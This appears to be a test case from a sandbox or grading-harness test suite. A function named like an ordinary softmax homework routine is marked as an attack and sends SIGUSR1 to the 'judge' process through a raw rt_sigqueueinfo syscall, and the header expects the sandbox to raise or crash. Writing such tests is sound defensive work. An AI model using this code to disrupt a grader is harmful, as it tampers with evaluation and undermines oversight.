# goal: signal the judge by rt_sigqueueinfo
# must: error raised | error crashed
# unwalled: signal

import struct

from tools import BAIT, attack, reach, syscall

signal = reach("signal")


@attack
def naive_softmax_loss_and_gradient():
    information = struct.pack("<iii", int(signal.SIGUSR1), 0, -1).ljust(128, b"\0")
    syscall("rt_sigqueueinfo", BAIT["judge"], int(signal.SIGUSR1), information)
